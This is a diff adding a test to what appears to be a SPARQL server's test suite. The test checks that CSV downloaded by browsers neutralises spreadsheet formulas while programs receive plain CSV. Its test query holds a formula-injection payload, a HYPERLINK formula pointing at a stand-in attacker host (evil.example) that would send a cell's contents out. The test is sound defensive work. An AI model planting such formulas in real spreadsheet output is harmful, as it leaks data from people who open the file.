@@ -369,3 +369,15 @@ def test_the_log_shows_escape_codes_as_text_and_no_tracebacks(rw):
     log = "".join(rw.log)
     assert "\x1b" not in log and "\\x1b]0;pwned" in log
     assert "Traceback" not in log
+
+
+# -- 8. CSV for a spreadsheet ---------------------------------------------------------------------
+
+def test_a_browser_downloads_spreadsheet_safe_csv_programs_get_w3c_csv(ro):
+    text = 'SELECT ?cell WHERE { VALUES ?cell { "=HYPERLINK(\\"https://evil.example/\\"&B2)" } }'
+    path = "/query?" + urllib.parse.urlencode({"query": text, "format": "csv"})
+    status, headers, body = request(ro.base, path, headers={"Sec-Fetch-Mode": "navigate", "Accept": "text/html"})
+    assert status == 200 and body.splitlines()[1].startswith(b"\"'=HYPERLINK")
+    assert headers["Content-Disposition"].startswith("attachment")
+    status, headers, body = request(ro.base, path, headers={"Accept": "text/csv"})
+    assert status == 200 and body.splitlines()[1].startswith(b'"=HYPERLINK') and "Content-Disposition" not in headers
